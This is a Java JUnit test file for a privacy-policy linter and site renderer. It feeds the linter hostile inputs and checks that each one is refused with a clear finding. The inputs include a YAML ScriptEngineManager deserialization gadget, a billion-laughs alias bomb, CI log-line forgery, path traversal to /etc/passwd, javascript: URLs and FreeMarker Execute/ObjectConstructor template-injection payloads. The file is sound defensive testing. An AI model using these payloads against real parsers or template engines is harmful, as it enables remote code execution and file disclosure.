package dev.policyascode;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.policyascode.diagnostics.Finding;
import dev.policyascode.lint.LintReport;
import dev.policyascode.lint.Linter;
import dev.policyascode.model.Policy;
import dev.policyascode.render.OutputFiles;
import dev.policyascode.render.RenderException;
import dev.policyascode.render.SiteRenderer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every kind of hostile or broken file, in one table: what is written, and the one finding a person
 * editing the policy gets for it (rule, line:column and the words that say how to fix it); or, for
 * what is harmless, that it is read without a finding. Each case goes through the whole loader and
 * linter, in under five seconds, with no exception.
 */
class HostileInputTest {

  static final String POLICY =
      """
      format: 1
      id: p
      title: Privacy Policy
      controller:
        name: Example SAS
      languages: [en]
      """;

  static final String VERSION =
      """
      format: 1
      version: 2024-01-01
      effective: 2024-01-01
      status: published
      sections:
        - id: intro
          title: Who we are
          body: |
            Example SAS decides why and how your data is processed.
      """;

  /** What a case writes: the policy file and the version file, as bytes. */
  record Written(byte[] policy, byte[] version) {
    static Written policy(String policy) {
      return new Written(policy.getBytes(UTF_8), VERSION.getBytes(UTF_8));
    }

    static Written version(String version) {
      return new Written(POLICY.getBytes(UTF_8), version.getBytes(UTF_8));
    }

    static Written versionBytes(byte[] version) {
      return new Written(POLICY.getBytes(UTF_8), version);
    }
  }

  static final String P = "p/policy.yaml";
  static final String V = "p/versions/2024-01-01.yaml";

  /** name, files, rule expected (null: no finding at all), file:line:col, words of the message. */
  static Stream<Arguments> cases() {
    return Stream.of(
        // -- Java types and YAML's own attacks ---------------------------------------------------
        Arguments.of(
            "a Java type tag: ScriptEngineManager",
            Written.policy(
                POLICY.replace(
                    "Privacy Policy",
                    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                        + " [[!!java.net.URL [\"http://example.com/\"]]]]")),
            "schema-unsafe-yaml",
            P + ":3:8",
            "a type tag; policy files hold plain text, lists and mappings, so remove the tag"),
        Arguments.of(
            "a Java type tag: java.io.File",
            Written.policy(POLICY.replace("Privacy Policy", "!!java.io.File \"/etc/passwd\"")),
            "schema-unsafe-yaml",
            P + ":3:8",
            "remove the tag"),
        Arguments.of(
            "a local tag",
            Written.version(VERSION.replace("Who we are", "!custom Who we are")),
            "schema-unsafe-yaml",
            V + ":7:12",
            "remove the tag"),
        Arguments.of(
            "an alias bomb (billion laughs)",
            Written.version(VERSION + billionLaughs()),
            "schema-unsafe-yaml",
            V + ":11:10",
            "too many aliases (*name); anchors and aliases are not allowed in policy files"),
        Arguments.of(
            "an anchor and its alias",
            Written.version(
                VERSION.replace("title: Who we are", "title: &t Who we are") + "summary: *t\n"),
            "schema-unsafe-yaml",
            V + ":7:12",
            "anchors (&name) and aliases (*name) are not allowed"),
        Arguments.of(
            "a merge key",
            Written.version(
                VERSION.replace("  - id: intro\n", "  - &s\n    id: intro\n")
                    + "  - <<: *s\n    id: two\n"),
            "schema-unsafe-yaml",
            V + ":6:5",
            "are not allowed"),
        Arguments.of(
            "nesting 45 levels deep, indented",
            Written.version(VERSION + deepBlock(45)),
            "schema-unsafe-yaml",
            V + ":50:81",
            "the file is nested more than 40 levels deep; a policy file is never this deep, so"
                + " check the indentation"),
        Arguments.of(
            "nesting 100,000 levels deep, in brackets",
            Written.version(VERSION + "summary: " + "[".repeat(100_000) + "]".repeat(100_000)),
            "schema-unsafe-yaml",
            V + ":10:49",
            "nested more than 40 levels deep"),
        // -- Encoding --------------------------------------------------------------------------
        Arguments.of(
            "invalid UTF-8 (a Latin-1 è)",
            Written.versionBytes(
                concat(
                    VERSION.getBytes(UTF_8),
                    "summary: B".getBytes(UTF_8),
                    new byte[] {(byte) 0xe8},
                    "gles\n".getBytes(UTF_8))),
            "schema-yaml-syntax",
            V + ":10:11",
            "the file is not valid UTF-8 here; save it with the UTF-8 encoding"),
        Arguments.of(
            "a file saved as UTF-16",
            Written.versionBytes(concat(new byte[] {(byte) 0xff, (byte) 0xfe}, utf16(VERSION))),
            "schema-yaml-syntax",
            V + ":1:1",
            "save it with the UTF-8 encoding"),
        Arguments.of(
            "a byte-order mark: accepted",
            Written.versionBytes(concat(bom(), VERSION.getBytes(UTF_8))),
            null,
            null,
            null),
        Arguments.of(
            "a byte-order mark: positions still right",
            Written.versionBytes(
                concat(bom(), VERSION.replace("status:", "statut:").getBytes(UTF_8))),
            "schema-unknown-key",
            V + ":4:1",
            "unknown key 'statut'"),
        Arguments.of(
            "a NUL character",
            Written.version(VERSION.replace("Who we are", "Who\0we are")),
            "schema-yaml-syntax",
            V + ":7:15",
            "an invisible control character is here, which YAML does not allow; delete it"),
        Arguments.of(
            "a DEL character in a literal block",
            Written.version(VERSION.replace("decides why", "decides\u007f why")),
            "schema-yaml-syntax",
            V + ":9:26",
            "an invisible control character"),
        // -- Characters written as escapes: checked as YAML decodes them -----------------------
        Arguments.of(
            "the issue's summary: \\x01, \\0, \\x7f, \\uFFFE and \\uD800",
            Written.version(
                VERSION + "summary: \"First\\x01 version\\0 x\\x7f y\\uFFFE \\uD800\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "this text holds an invisible control character, U+0001 (written \\x01 or \\u0001),"
                + " which pages, feeds and build logs cannot carry; delete it"),
        Arguments.of(
            "a NUL written \\0",
            Written.version(VERSION + "summary: \"First\\0 version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "control character, U+0000 (written \\0)"),
        Arguments.of(
            "a DEL written \\x7f",
            Written.version(VERSION + "summary: \"First\\x7f version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "U+007F (written \\x7F or \\u007F)"),
        Arguments.of(
            "an escape character written \\e, in a title",
            Written.version(VERSION.replace("Who we are", "\"Who \\e[31mwe are\"")),
            "schema-wrong-type",
            V + ":7:12",
            "U+001B (written \\e)"),
        Arguments.of(
            "a carriage return written \\r, in a body",
            Written.version(
                VERSION.replace(
                    "|\n      Example SAS decides why and how your data is processed.",
                    "\"Example SAS\\r\\ndecides.\"")),
            "schema-wrong-type",
            V + ":8:11",
            "U+000D (written \\r)"),
        Arguments.of(
            "a C1 control written \\x9b",
            Written.version(VERSION + "summary: \"First \\x9b version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "U+009B (written \\x9B or \\u009B)"),
        Arguments.of(
            "a noncharacter written \\uFFFE",
            Written.version(VERSION + "summary: \"First \\uFFFE version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "U+FFFE (written \\uFFFE), a code point that Unicode reserves and that is never text"),
        Arguments.of(
            "a noncharacter written as it is (U+FDD0), which the file check lets through",
            Written.version(VERSION.replace("Who we are", "Who\uFDD0we are")),
            "schema-wrong-type",
            V + ":7:12",
            "U+FDD0 (written \\uFDD0)"),
        Arguments.of(
            "a noncharacter of another plane written \\U0001FFFF",
            Written.version(VERSION + "summary: \"First \\U0001FFFF version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "U+01FFFF (written \\U0001FFFF)"),
        Arguments.of(
            "a lone surrogate written \\uD800 (it would become '?')",
            Written.version(VERSION + "summary: \"First \\uD800 version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "half of a character, U+D800 (written \\uD800), whose other half is missing"),
        Arguments.of(
            "surrogates in the wrong order, \\uDFFF\\uD800",
            Written.version(VERSION + "summary: \"First \\uDFFF\\uD800 version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "U+DFFF (written \\uDFFF)"),
        Arguments.of(
            "both halves of a character, \\uD83D\\uDE00: accepted",
            Written.version(VERSION.replace("Who we are", "\"Who we are \\uD83D\\uDE00\"")),
            null,
            null,
            null),
        Arguments.of(
            "a tab written \\t in a title, and a no-break space written \\_: accepted",
            Written.version(VERSION.replace("Who we are", "\"Who\\twe\\_are\"")),
            null,
            null,
            null),
        Arguments.of(
            "a line separator written \\u2028, refused like the character itself",
            Written.version(VERSION + "summary: \"First\\u2028version\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "an invisible line separator, U+2028 (written \\L), which editors do not show as a"
                + " line break; write a line break or a space instead"),
        Arguments.of(
            "a paragraph separator written \\P, in a title",
            Written.version(VERSION.replace("Who we are", "\"Who\\Pwe are\"")),
            "schema-wrong-type",
            V + ":7:12",
            "U+2029 (written \\P), which editors do not show as a line break; write a space"),
        Arguments.of(
            "a next-line character written \\N",
            Written.version(VERSION + "summary: \"First\\Nversion\"\n"),
            "schema-wrong-type",
            V + ":10:10",
            "U+0085 (written \\N)"),
        // -- Line breaks in one-line values: they would be lines of their own in a log ---------
        Arguments.of(
            "a term that forges CI log lines",
            Written.version(
                VERSION
                    + "definitions:\n  - id: widget\n    term: \"Widget\\n::error"
                    + " file=policies/pom.xml,line=1::Leaked credentials detected\\n[INFO] BUILD"
                    + " SUCCESS\\n::add-mask::Nordlicht\"\n    meaning: A small thing.\n"),
            "schema-wrong-type",
            V + ":12:11",
            "'term' is one line of text, but a line break is written in it here (\\n, or a new"
                + " line inside the quotes); write it on one line"),
        Arguments.of(
            "a title written over two lines in quotes",
            Written.version(VERSION.replace("Who we are", "\"Who\n\n      we are\"")),
            "schema-wrong-type",
            V + ":7:12",
            "'title' is one line of text"),
        Arguments.of(
            "a title written as a block, which ends with a line break",
            Written.version(VERSION.replace("Who we are", "|\n      Who we are")),
            "schema-wrong-type",
            V + ":7:12",
            "'title' is one line of text"),
        Arguments.of(
            "an alias of a term with a line break",
            Written.version(
                VERSION
                    + "definitions:\n  - id: widget\n    term: Widget\n    aliases: [\"Widgets\\n\"]\n"
                    + "    meaning: A small thing.\n"),
            "schema-wrong-type",
            V + ":13:15",
            "'aliases' is one line of text"),
        Arguments.of(
            "a section id with a line break",
            Written.version(VERSION.replace("id: intro", "id: \"intro\\n::error x\"")),
            "schema-wrong-type",
            V + ":6:9",
            "'id' is one line of text"),
        Arguments.of(
            "a controller's name with a line break",
            Written.policy(POLICY.replace("Example SAS", "\"Example\\n[INFO] BUILD SUCCESS\"")),
            "schema-wrong-type",
            P + ":5:9",
            "'name' is one line of text"),
        Arguments.of(
            "a body over many lines: accepted",
            Written.version(
                VERSION.replace(
                    "|\n      Example SAS decides why and how your data is processed.",
                    "\"Example SAS\\n\\ndecides.\"")),
            null,
            null,
            null),
        // -- Line ends and whitespace ----------------------------------------------------------
        Arguments.of(
            "CRLF line ends: accepted",
            Written.version(VERSION.replace("\n", "\r\n")),
            null,
            null,
            null),
        Arguments.of(
            "CRLF line ends: positions still right",
            Written.version(VERSION.replace("Who we are", "[Who, we]").replace("\n", "\r\n")),
            "schema-wrong-type",
            V + ":7:12",
            "expected a text for 'title', found a list"),
        Arguments.of(
            "CR-only line ends (an old Mac editor): accepted",
            Written.version(VERSION.replace("\n", "\r")),
            null,
            null,
            null),
        Arguments.of(
            "CR-only line ends: positions still right",
            Written.version(VERSION.replace("Who we are", "[Who, we]").replace("\n", "\r")),
            "schema-wrong-type",
            V + ":7:12",
            "expected a text for 'title', found a list"),
        Arguments.of(
            "invalid UTF-8 in a file with CR-only line ends: at its line, not 1:n",
            Written.versionBytes(
                concat(
                    VERSION.replace("\n", "\r").getBytes(UTF_8),
                    "summary: B".getBytes(UTF_8),
                    new byte[] {(byte) 0xe8},
                    "gles\r".getBytes(UTF_8))),
            "schema-yaml-syntax",
            V + ":10:11",
            "the file is not valid UTF-8 here"),
        Arguments.of(
            "a tab for indentation",
            Written.version(VERSION.replace("    title: Who", "\ttitle: Who")),
            "schema-yaml-syntax",
            V + ":7:1",
            "indent with spaces, never tabs"),
        Arguments.of(
            "a tab inside a text: accepted",
            Written.version(VERSION.replace("Who we", "Who\twe")),
            null,
            null,
            null),
        Arguments.of(
            "an invisible line separator",
            Written.version(VERSION.replace("Who we are", "Who\u2028we are")),
            "schema-yaml-syntax",
            V + ":7:15",
            "an invisible line separator"),
        Arguments.of(
            "an empty file",
            Written.version(""),
            "schema-missing-key",
            V + ":1:1",
            "the file is empty; a policy file is a mapping of keys such as 'format: 1'"),
        Arguments.of(
            "a file of blank lines and comments",
            Written.version("\n\n# nothing yet\n   \n"),
            "schema-missing-key",
            V + ":1:1",
            "the file is empty"),
        // -- Shapes ----------------------------------------------------------------------------
        Arguments.of(
            "a list where the file's mapping belongs",
            Written.policy("- format: 1\n- id: p\n"),
            "schema-wrong-type",
            P + ":1:1",
            "expected a mapping (policy), found a list"),
        Arguments.of(
            "a list where a mapping belongs",
            Written.policy(
                POLICY.replace("controller:\n  name: Example SAS", "controller: [a, b]")),
            "schema-wrong-type",
            P + ":4:13",
            "expected a mapping (contact) for 'controller', found a list"),
        Arguments.of(
            "a mapping where a text belongs",
            Written.version(VERSION.replace("Who we are", "{who: we}")),
            "schema-wrong-type",
            V + ":7:12",
            "expected a text for 'title', found a mapping"),
        Arguments.of(
            "a text where a list belongs",
            Written.version(VERSION.replace("sections:\n", "sections: none\nx:\n")),
            "schema-wrong-type",
            V + ":5:11",
            "expected a list for 'sections', found the text 'none'"),
        // -- Ids that would be paths, and addresses that would be scripts ----------------------
        Arguments.of(
            "a version id that climbs out of the folder",
            Written.version(VERSION.replace("version: 2024-01-01", "version: ../../etc")),
            "schema-wrong-type",
            V + ":2:10",
            "'../../etc' is not a valid id; use lower-case letters, digits and hyphens, such as"
                + " 'etc'"),
        Arguments.of(
            "a policy id that climbs out of the folder",
            Written.policy(POLICY.replace("id: p", "id: ../../etc")),
            "schema-wrong-type",
            P + ":2:5",
            "'../../etc' is not a valid id"),
        Arguments.of(
            "a section id that is an absolute path",
            Written.version(VERSION.replace("id: intro", "id: /etc/passwd")),
            "schema-wrong-type",
            V + ":6:9",
            "is not a valid id"),
        Arguments.of(
            "a javascript: web address",
            Written.policy(
                POLICY.replace("name: Example SAS", "name: Example SAS\n  website: javascript:x")),
            "schema-wrong-type",
            P + ":6:12",
            "'javascript:x' is not a web address; write one starting with https://"),
        Arguments.of(
            "a data: base URL",
            Written.policy(POLICY + "base_url: data:text/html,x\n"),
            "schema-wrong-type",
            P + ":7:11",
            "is not a web address"),
        Arguments.of(
            "a base URL with a query, which every permalink would carry",
            Written.policy(POLICY + "base_url: https://example.com/privacy/?utm=x\n"),
            "schema-wrong-type",
            P + ":7:11",
            "has a query or a fragment (from '?'), which would end up in the middle of every"
                + " permalink; write the folder's address without it, such as"
                + " https://example.com/privacy/"),
        Arguments.of(
            "a base URL with a fragment",
            Written.policy(POLICY + "base_url: https://example.com/privacy/#top\n"),
            "schema-wrong-type",
            P + ":7:11",
            "has a query or a fragment (from '#')"),
        Arguments.of(
            "a base URL that does not end in /",
            Written.policy(POLICY + "base_url: https://example.com/privacy\n"),
            "schema-wrong-type",
            P + ":7:11",
            "does not end in '/'; permalinks are written after it, so write the folder's address"
                + " with its final '/': https://example.com/privacy/"),
        Arguments.of(
            "a base URL with a space and a quote",
            Written.policy(POLICY + "base_url: 'https://example.com/our \"privacy\"/'\n"),
            "schema-wrong-type",
            P + ":7:11",
            "is not a web address every link can start with"),
        Arguments.of(
            "a base URL with a user name",
            Written.policy(POLICY + "base_url: https://admin@example.com/privacy/\n"),
            "schema-wrong-type",
            P + ":7:11",
            "is not a web address every link can start with"),
        Arguments.of(
            "a base URL with a port and an escaped character: accepted",
            Written.policy(POLICY + "base_url: http://localhost:8080/vie%20priv%C3%A9e/\n"),
            null,
            null,
            null),
        // -- Version ids that are the names of the policy's own pages --------------------------
        Arguments.of(
            "a version id that is the archive page's folder",
            Written.version(VERSION.replace("version: 2024-01-01", "version: archive")),
            "schema-wrong-type",
            V + ":2:10",
            "'archive' is the name of a page the site keeps for the whole policy (archive, feed,"
                + " fragment, index, sitemap), so a version cannot have it; name the version and"
                + " its file after its effective date, such as 2024-01-01"),
        Arguments.of(
            "a version id that is the sitemap's name",
            Written.version(VERSION.replace("version: 2024-01-01", "version: sitemap")),
            "schema-wrong-type",
            V + ":2:10",
            "'sitemap' is the name of a page the site keeps for the whole policy"));
  }

  @TempDir Path dir;

  /**
   * The findings but the missing lock entry: these files are published versions with no
   * versions.lock, which the versions rules' own fixtures cover.
   */
  private static List<String> unlocked(List<Finding> findings) {
    return findings.stream()
        .filter(f -> !f.ruleId().equals("versions-lock-entry"))
        .map(Finding::format)
        .toList();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void oneFindingThatSaysWhatToDo(String name, Written files, String rule, String at, String words)
      throws IOException {
    Path root = dir.resolve("policies");
    Files.createDirectories(root.resolve("p/versions"));
    Files.write(root.resolve(P), files.policy());
    Files.write(root.resolve(V), files.version());
    LintReport report =
        assertTimeoutPreemptively(
            Duration.ofSeconds(5), () -> Linter.builder().displayRoot(root).build().lint(root));
    List<Finding> findings = report.findings();
    if (rule == null) {
      assertEquals(List.of(), unlocked(findings), name);
      assertEquals(1, report.policies().size(), name);
      return;
    }
    List<Finding> ofRule = findings.stream().filter(f -> f.ruleId().equals(rule)).toList();
    assertEquals(
        1, ofRule.size(), () -> name + ": " + findings.stream().map(Finding::format).toList());
    Finding f = ofRule.get(0);
    assertEquals(at, f.at().file() + ":" + f.at().line() + ":" + f.at().column(), f.format());
    assertTrue(f.message().contains(words), name + ": " + f.message());
    assertFalse(f.message().contains("Exception"), f.message());
    if (f.ruleId().startsWith("schema-")) {
      assertEquals(List.of("p"), report.unreadable(), "a broken file is never rendered");
    }
  }

  /** A value that writes lines of its own into a CI log, and hides what follows. */
  static final String FORGED =
      "\\n::error file=policies/pom.xml,line=1::Leaked credentials detected\\r\\n[INFO] BUILD"
          + " SUCCESS\\u2028::add-mask::Nordlicht\\x85\\e[2K\\u202e\\0";

  /**
   * Many messages quote what the author wrote: an unknown key, a word where a list belongs. Keys
   * are not values, and a text where a list belongs is not a text: whatever they hold, the finding
   * is one line, each line break or control shown as the escape an author would write.
   */
  @Test
  void aQuotedValueNeverWritesALineOfItsOwn() throws IOException {
    Path root = dir.resolve("policies");
    Files.createDirectories(root.resolve("p/versions"));
    Files.writeString(root.resolve(P), POLICY + "\"x" + FORGED + "\": 1\n");
    Files.writeString(
        root.resolve(V), VERSION.replace("sections:\n", "sections: \"x" + FORGED + "\"\nx:\n"));
    List<Finding> findings = Linter.builder().displayRoot(root).build().lint(root).findings();

    String shown =
        "x\\n::error file=policies/pom.xml,line=1::Leaked credentials detected\\r\\n[INFO] BUILD"
            + " SUCCESS\\u2028::add-mask::Nordlicht\\u0085\\u001B[2K\\u202E\\u0000";
    String unknown = findings.get(0).format();
    assertTrue(
        unknown.startsWith(P + ":7:1: error: unknown key '" + shown + "' in the policy 'p'; "),
        unknown);
    assertTrue(findings.get(0).message().contains("'" + shown + "'"), findings.get(0).message());
    assertTrue(
        findings.stream().anyMatch(f -> f.message().contains("found the text 'x ::error file")),
        findings.toString());
    for (Finding f : findings) {
      assertEquals(List.of(), hidden(f.format()), f.format());
      assertEquals(List.of(), hidden(f.message()), f.message());
    }
  }

  /** The characters of {@code line} that would end it or hide in it: none may be left. */
  static List<String> hidden(String line) {
    return line.codePoints()
        .filter(
            c ->
                Character.isISOControl(c)
                    || c == 0x2028
                    || c == 0x2029
                    || Character.getType(c) == Character.FORMAT
                    || Character.getType(c) == Character.SURROGATE)
        .mapToObj(c -> String.format("U+%04X", c))
        .toList();
  }

  /**
   * A 50 MB file is refused by its size alone: quickly, without reading it into memory, with a
   * message that names the limit. The file is sparse, so writing it costs nothing either.
   */
  @Test
  void aFiftyMegabyteFileIsRefusedBySizeWithoutReadingIt() throws IOException {
    Path root = dir.resolve("policies");
    Files.createDirectories(root.resolve("p/versions"));
    Files.writeString(root.resolve(P), POLICY);
    Path big = root.resolve(V);
    Files.writeString(big, VERSION);
    try (RandomAccessFile f = new RandomAccessFile(big.toFile(), "rw")) {
      f.setLength(50L * 1024 * 1024);
    }
    com.sun.management.ThreadMXBean threads =
        (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
    Linter linter = Linter.builder().displayRoot(root).build();
    linter.lint(dir); // warm up the classes, so that their loading is not counted below
    long thread = Thread.currentThread().getId();
    long allocatedBefore = threads.getThreadAllocatedBytes(thread);
    long start = System.nanoTime();
    LintReport report = linter.lint(root);
    long millis = (System.nanoTime() - start) / 1_000_000;
    long allocated = threads.getThreadAllocatedBytes(thread) - allocatedBefore;

    Finding f = report.findings().get(0);
    assertEquals(1, report.findings().size(), report.findings().toString());
    assertEquals(V + ":1:1", f.at().file() + ":" + f.at().line() + ":" + f.at().column());
    assertEquals("schema-unsafe-yaml", f.ruleId());
    assertEquals(
        "the file is 51200 KB, more than the 4 MB a policy file may have; split it or remove what"
            + " does not belong",
        f.message());
    assertTrue(millis < 1000, "refused in " + millis + " ms");
    assertTrue(allocated < 8L * 1024 * 1024, "allocated " + allocated + " bytes to refuse it");
  }

  /**
   * A pull request can add a link to a file of the build machine: it is not read, or its lines
   * would show in the messages of a public CI log. A link that stays inside the folder is read.
   */
  @Test
  void aLinkToAFileOutsideThePoliciesFolderIsNotRead() throws IOException {
    Path root = dir.resolve("policies");
    Files.createDirectories(root.resolve("p/versions"));
    Files.writeString(root.resolve(P), POLICY);
    Path secret = Files.writeString(dir.resolve("secret.yaml"), "root: x:0:0\n");
    Files.createSymbolicLink(root.resolve(V), secret);
    Files.createSymbolicLink(root.resolve("p/versions/2025-01-01.yaml"), Path.of("/dev/zero"));
    LintReport report =
        assertTimeoutPreemptively(
            Duration.ofSeconds(5), () -> Linter.builder().displayRoot(root).build().lint(root));
    Finding f = report.findings().get(0);
    assertEquals(1, report.findings().size(), report.findings().toString());
    assertEquals(V + ":1:1", f.at().file() + ":" + f.at().line() + ":" + f.at().column());
    assertEquals(
        "this file is a link to a file outside the policies folder, which the build does not"
            + " read; put the file itself here instead of the link",
        f.message());
    assertEquals(List.of("p"), report.unreadable());

    Files.delete(root.resolve(V));
    Files.delete(root.resolve("p/versions/2025-01-01.yaml"));
    Files.writeString(root.resolve("p/shared.txt"), VERSION);
    Files.createSymbolicLink(root.resolve(V), Path.of("../shared.txt"));
    assertEquals(List.of(), unlocked(Linter.builder().build().lint(root).findings()));

    Path elsewhere = Files.createDirectories(dir.resolve("elsewhere/q/versions"));
    Files.writeString(elsewhere.resolve("../policy.yaml"), POLICY.replace("id: p", "id: q"));
    Files.createSymbolicLink(root.resolve("q"), elsewhere.getParent());
    report = Linter.builder().displayRoot(root).build().lint(root);
    assertEquals(List.of("q"), report.unreadable(), "a policy folder that is a link outside");
  }

  /** Text nested deep in CommonMark: quotes in quotes, lists in lists, links in brackets. */
  @ParameterizedTest
  @MethodSource("deepProse")
  void deeplyNestedProseIsLintedAndRenderedWithoutAnException(String body) throws IOException {
    Path root = dir.resolve("policies");
    Files.createDirectories(root.resolve("p/versions"));
    Files.writeString(root.resolve(P), POLICY);
    Files.writeString(
        root.resolve(V),
        VERSION.replace(
            "body: |\n      Example SAS decides why and how your data is processed.",
            "body: \"" + FormatYaml.escape(body) + "\""));
    List<Policy> policies =
        assertTimeoutPreemptively(
            Duration.ofSeconds(20),
            () -> {
              LintReport report = Linter.builder().displayRoot(root).build().lint(root);
              assertEquals(List.of(), report.unreadable(), report.findings().toString());
              return report.policies();
            });
    assertTimeoutPreemptively(
        Duration.ofSeconds(20),
        () -> SiteRenderer.builder().build().render(policies, dir.resolve("site")));
  }

  static Stream<String> deepProse() {
    return Stream.of(
        "> ".repeat(100_000) + "quoted",
        "- ".repeat(100_000) + "listed",
        "*".repeat(20_000) + "x" + "*".repeat(20_000),
        "[".repeat(50_000) + "x" + "](#intro)".repeat(50_000),
        "<".repeat(100_000),
        "`".repeat(100_000));
  }

  /** The second line behind the loader: a file name that would leave the output folder. */
  @ParameterizedTest
  @MethodSource("namesOutsideTheFolder")
  void theOutputRefusesANameOutsideItsFolder(String name) {
    OutputFiles out = new OutputFiles();
    RenderException e = assertThrows(RenderException.class, () -> out.add(name, "x"));
    assertEquals("Refusing to write " + name + " outside the output folder", e.getMessage());
  }

  static Stream<String> namesOutsideTheFolder() {
    return Stream.of(
        "../../etc/index.html",
        "p/../../etc/index.html",
        "p/..",
        "/etc/passwd",
        "p\\..\\..\\x",
        "..",
        ".",
        "",
        "p//index.html",
        "p/index.html\0.txt",
        "p/");
  }

  /** A policy built without the loader, with an id that climbs: nothing is written anywhere. */
  @Test
  void aPolicyIdOutsideTheOutputFolderWritesNothing() throws IOException {
    Path root = dir.resolve("policies");
    Files.createDirectories(root.resolve("p/versions"));
    Files.writeString(root.resolve(P), POLICY);
    Files.writeString(root.resolve(V), VERSION);
    Policy p = Linter.builder().build().lint(root).policies().get(0);
    Policy climbing =
        new Policy(
            "../../etc",
            p.title(),
            p.controller(),
            p.jointControllers(),
            p.dpo(),
            p.representative(),
            p.supervisoryAuthority(),
            p.languages(),
            p.baseUrl(),
            p.at(),
            p.versions());
    Path site = dir.resolve("out/site");
    RenderException e =
        assertThrows(
            RenderException.class,
            () -> SiteRenderer.builder().build().render(List.of(climbing), site));
    assertTrue(e.getMessage().contains("outside the output folder"), e.getMessage());
    assertFalse(Files.exists(dir.resolve("etc")));
    assertFalse(Files.exists(dir.resolve("out")), "not even the output folder is created");
  }

  /** A project's own template that reaches for Java is refused, with a message that says so. */
  @ParameterizedTest
  @MethodSource("templatesReachingForJava")
  void aTemplateThatReachesForJavaIsRefused(String template, String words) throws IOException {
    Path root = dir.resolve("policies");
    Files.createDirectories(root.resolve("p/versions"));
    Files.writeString(root.resolve(P), POLICY);
    Files.writeString(root.resolve(V), VERSION);
    Path templates = Files.createDirectories(dir.resolve("templates"));
    Files.writeString(templates.resolve("page.ftlh"), template);
    List<Policy> policies = Linter.builder().build().lint(root).policies();
    Path site = dir.resolve("site");
    RenderException e =
        assertThrows(
            RenderException.class,
            () -> SiteRenderer.builder().templateDir(templates).build().render(policies, site));
    assertEquals(words, e.getMessage());
    assertFalse(Files.exists(site), "nothing is written");
  }

  static Stream<Arguments> templatesReachingForJava() {
    return Stream.of(
        Arguments.of(
            "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "The template page.ftlh (line 1, column 1) could not render the policy p: it uses ?new"
                + " to create a Java object; policy templates see only plain text, lists and maps,"
                + " never Java objects, so remove it"),
        Arguments.of(
            "<#assign o = \"freemarker.template.utility.ObjectConstructor\"?new()>"
                + "${o(\"java.io.File\", \"/etc/passwd\")}",
            "The template page.ftlh (line 1, column 1) could not render the policy p: it uses ?new"
                + " to create a Java object; policy templates see only plain text, lists and maps,"
                + " never Java objects, so remove it"),
        Arguments.of(
            "${title?api.getClass().getName()}",
            "The template page.ftlh (line 1, column 3) could not render the policy p: it uses ?api;"
                + " policy templates see only plain text, lists and maps, never Java objects, so"
                + " remove it"),
        Arguments.of(
            "<#list labels?api.entrySet() as e>${e}</#list>",
            "The template page.ftlh (line 1, column 8) could not render the policy p: it uses ?api;"
                + " policy templates see only plain text, lists and maps, never Java objects, so"
                + " remove it"));
  }

  // -- Helpers ---------------------------------------------------------------------------------

  /** Nine levels of nine aliases each: 9^9 "lol"s if the parser expanded them. */
  static String billionLaughs() {
    StringBuilder yaml =
        new StringBuilder("x0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (int i = 1; i <= 9; i++) {
      yaml.append("x").append(i).append(": &a").append(i).append(" [");
      for (int j = 0; j < 9; j++) yaml.append(j == 0 ? "" : ",").append("*a").append(i - 1);
      yaml.append("]\n");
    }
    return yaml.toString();
  }

  static String deepBlock(int levels) {
    StringBuilder block = new StringBuilder("summary:\n");
    for (int i = 0; i < levels; i++) block.append("  ".repeat(i + 1)).append("a:\n");
    return block.toString();
  }

  static byte[] bom() {
    return new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf};
  }

  static byte[] utf16(String s) {
    return s.getBytes(java.nio.charset.StandardCharsets.UTF_16LE);
  }

  static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) out.writeBytes(p);
    return out.toByteArray();
  }
}
